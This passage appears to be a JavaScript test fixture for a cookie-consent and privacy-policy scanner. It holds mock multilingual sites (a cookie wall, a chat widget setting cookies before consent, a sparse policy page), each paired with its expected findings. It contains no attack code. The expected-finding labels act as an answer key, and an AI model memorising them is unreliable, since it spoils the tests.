      "/adatkezeles": `<!doctype html><html lang="hu"><meta charset="utf-8"><title>Adatkezelési tájékoztató</title><h1>Adatkezelési tájékoztató</h1><p>Utolsó frissítés: 2026. május 14.</p><p>Az adatkezelő a Csomagküldő Kft. Az adatkezelés célja a csomagok kézbesítése, jogalapja a szerződés teljesítése.</p><p>Az adatok címzettjei: futárszolgálatok és webanalitikai szolgáltatók.</p><p>Az Ön adatait nem továbbítjuk harmadik országba.</p><p>Megőrzési idő: öt év. Ön kérheti adatai törlését, és panaszt tehet a felügyeleti hatóságnál.</p></html>`,
    }),
  },
  {
    // Italian: agree or pay, over the whole page.
    host: "gazzetta-colli.example",
    truth: {
      defect: "consent.no-wall consent.reject-offered-first-layer",
      open: "consent.trackers-before consent.cookies-before",
    },
    site: site({
      "/": `<!doctype html><html lang="it"><head><meta charset="utf-8"><title>Gazzetta dei Colli</title></head><body><div id="muro" style="position:fixed;inset:0;background:#fff;z-index:9;display:grid;place-content:center;text-align:center"><h2>Scegli come leggere</h2><p>Con i nostri 340 partner usiamo cookie per profilazione e pubblicità. Puoi leggere gratis accettando, oppure abbonarti.</p><button onclick="localStorage.setItem('scelta','si');document.getElementById('muro').remove();via()">Accetta e continua</button><a href="/abbonamento">Abbonati a 4,99 € al mese</a></div><h1>Gazzetta dei Colli</h1><article><h2>Vendemmia anticipata</h2><p>Quest’anno i grappoli sono pronti con tre settimane di anticipo. I produttori si preparano a lavorare di notte per salvare gli aromi.</p></article><script>function via(){${GA}}if(localStorage.getItem("scelta")){document.getElementById("muro").remove();via()}</script></body></html>`,
      "/abbonamento": `<!doctype html><html lang="it"><title>Abbonati</title><h1>Abbonati</h1><p>4,99 € al mese.</p></html>`,
    }),
  },
  {
    // Hebrew: a chat that follows visitors, without a question.
    host: "kafe-namal.example",
    truth: {
      defect: "consent.trackers-before consent.cookies-before consent.banner-present",
      fine: "mixed-content",
    },
    also: [
      {
        hosts: ["client.crisp.chat"],
        https: (_, response) =>
          reply(response, {
            type: "text/javascript",
            body: `document.cookie="crisp-client%2Fsession%2Fd3f1c2aa-1111-4abc-9def-001122334455=session_6f1d2c3b-4a59-4e68-8777-123456789abc;path=/;max-age=15552000";new Image().src="https://client.crisp.chat/ping?s=session_6f1d2c3b-4a59-4e68-8777-123456789abc"`,
          }),
      },
    ],
    site: site({
      "/": `<!doctype html><html lang="he" dir="rtl"><head><meta charset="utf-8"><title>קפה הנמל</title></head><body><h1>קפה הנמל</h1><p>ארוחות בוקר מול הים, קפה קלוי במקום ומאפים טריים. פתוח כל יום משש בבוקר עד חצות.</p><a href="/tafrit">תפריט</a><script>window.$crisp=[];var s=document.createElement("script");s.src="https://client.crisp.chat/l.js";s.async=1;document.head.append(s)</script></body></html>`,
      "/tafrit": `<!doctype html><html lang="he" dir="rtl"><title>תפריט</title><h1>תפריט</h1></html>`,
    }),
  },
  {
    // Georgian: neither the link to the policy nor the policy can be read here.
    host: "tonis-puri.example",
    truth: { open: "policy.link policy.sections policy.freshness", fine: CLEAN },
    site: site({
      "/": `<!doctype html><html lang="ka"><head><meta charset="utf-8"><title>თონის პური</title></head><body><h1>თონის პური</h1><p>ჩვენ ვაცხობთ პურს თონეში ყოველ დილით და ველოსიპედით მოგიტანთ სახლში. საცხობი ღიაა სამშაბათიდან შაბათის ჩათვლით და სტუმრები მუდამ სასურველია. შეკვეთა შეგიძლიათ წინა დღით, ტელეფონით ან ადგილზე. ქორწილებისთვის და დღესასწაულებისთვის ვაცხობთ დიდ პურებს, ხაჭაპურს და ტკბილ ნამცხვრებს ძველი ოჯახური რეცეპტებით, რომლებიც ბებიისგან გვერგო.</p><p><a href="/puri">პური</a> <a href="/fasebi">ფასები</a> <a href="/chven">ჩვენ შესახებ</a> <a href="/misamarti">მისამართი</a> <a href="/konfid">კონფიდენციალურობის პოლიტიკა</a></p></body></html>`,
      "/puri": `<!doctype html><html lang="ka"><title>პური</title><h1>პური</h1></html>`,
      "/konfid": `<!doctype html><html lang="ka"><meta charset="utf-8"><title>პოლიტიკა</title><h1>კონფიდენციალურობის პოლიტიკა</h1><p>ჩვენ ვიცავთ თქვენს პირად მონაცემებს.</p></html>`,
    }),
  },
];
